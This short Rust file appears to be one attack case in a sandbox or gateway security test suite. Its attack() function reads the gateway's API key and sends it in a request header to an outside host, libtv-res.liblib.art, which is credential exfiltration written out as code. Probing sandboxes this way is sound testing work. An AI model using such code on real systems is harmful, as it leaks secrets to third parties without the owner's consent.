//! Sends the gateway's key to the media store.

use crate::wasi::{self, Ask};
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let answer = Ask::at("libtv-res.liblib.art", "/claw/cat.png")
        .header("x-api-key", wasi::key()?)
        .send()?;
    Ok(got(format!("status {}", answer.status())))
}
